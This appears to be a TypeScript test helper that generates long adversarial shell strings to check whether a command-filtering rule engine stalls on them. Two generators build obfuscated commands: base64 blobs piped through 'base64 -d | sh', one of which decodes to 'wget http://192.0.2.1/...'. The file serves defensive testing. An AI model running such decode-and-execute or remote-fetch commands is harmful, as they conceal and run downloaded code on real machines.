import { Random } from './random.js'

/** As long as a command may be before it is cut. */
const LENGTH = 8192

export interface HostileText {
  readonly name: string
  /** Another text of the same kind for each `variant`, so that nothing remembered helps. */
  write(variant: number): string
}

/**
 * Commands that an attacker might write to stall whoever reads them.
 *
 * @param words words that rules look for, so that the text keeps their patterns alive
 */
export function hostileTexts(words: readonly string[]): readonly HostileText[] {
  const soup = (variant: number, separator: string) => {
    const random = new Random(variant + 1)
    return repeatWith(() => random.pick(words) + separator)
  }
  return [
    { name: "words of the rules' own patterns", write: (variant) => soup(variant, ' ') },
    { name: 'the same words as commands', write: (variant) => soup(variant, '; ') },
    { name: 'the same words in a pipe', write: (variant) => soup(variant, ' | ') },
    { name: 'the same words as options', write: (variant) => soup(variant, ' --') },
    { name: 'nested substitutions', write: (variant) => `${repeat(`e${variant} $(`)}` },
    { name: 'nested backticks and brackets', write: (variant) => `echo ${variant} ${repeat('`(${')}` },
    { name: 'closed substitutions', write: (variant) => repeat(`$(echo ${variant})`) },
    { name: 'quotes', write: (variant) => `echo ${variant}${repeat(`w""'g'"e"\\t`)}` },
    { name: 'open quotes', write: (variant) => `echo ${variant} ${repeat(`'"`)}` },
    { name: 'brace lists', write: (variant) => `echo ${variant} ${repeat('{a,b}')}` },
    { name: 'nested brace lists', write: (variant) => `echo ${variant} ${repeat('{a,{b,')}` },
    { name: 'variables of variables', write: (variant) => variables(variant) },
    { name: 'base64 in base64', write: (variant) => nestedBase64(variant) },
    { name: 'base64 blobs', write: (variant) => base64Blobs(variant) },
    { name: 'escapes', write: (variant) => `echo -e '${variant}${repeat('\\x41\\101')}' | sh` },
    { name: 'long runs', write: (variant) => `${variant} ${repeat('a')}` },
    { name: 'spaces', write: (variant) => `find ${variant}${repeat(' ')}` },
    { name: 'dots and slashes', write: (variant) => `cat ${variant}${repeat('../')}` },
    { name: 'operators', write: (variant) => `a${variant} ${repeat('&&|;')}` },
    { name: 'loops', write: (variant) => repeat(`for i in ${variant}; do `) },
    { name: 'here-documents', write: (variant) => repeat(`cat <<E${variant}\n`) },
    {
      name: 'code points beyond ASCII',
      write: (variant) => `echo ${variant} ${repeat('é\u{1f600}\u202e', LENGTH / 3)}`,
    },
  ]
}

function repeat(piece: string, length = LENGTH): string {
  return piece.repeat(Math.ceil(length / piece.length)).slice(0, length)
}

function repeatWith(next: () => string): string {
  let text = ''
  while (text.length < LENGTH) text += next()
  return text.slice(0, LENGTH)
}

function variables(variant: number): string {
  let text = `a${variant}=aaaaaaaa;`
  for (let index = 0; text.length < LENGTH - 100; index++) text += `v${index}=$a${variant}$v${index - 1}$v${index - 1};`
  return text
}

function nestedBase64(variant: number): string {
  let text = `echo ${variant}`
  for (;;) {
    const wrapped = `echo ${Buffer.from(text).toString('base64')} | base64 -d | sh`
    if (wrapped.length > LENGTH) return text
    text = wrapped
  }
}

function base64Blobs(variant: number): string {
  const blob = Buffer.from(`wget http://192.0.2.1/${variant}`).toString('base64')
  return repeatWith(() => `echo ${blob} | base64 -d | sh; `)
}
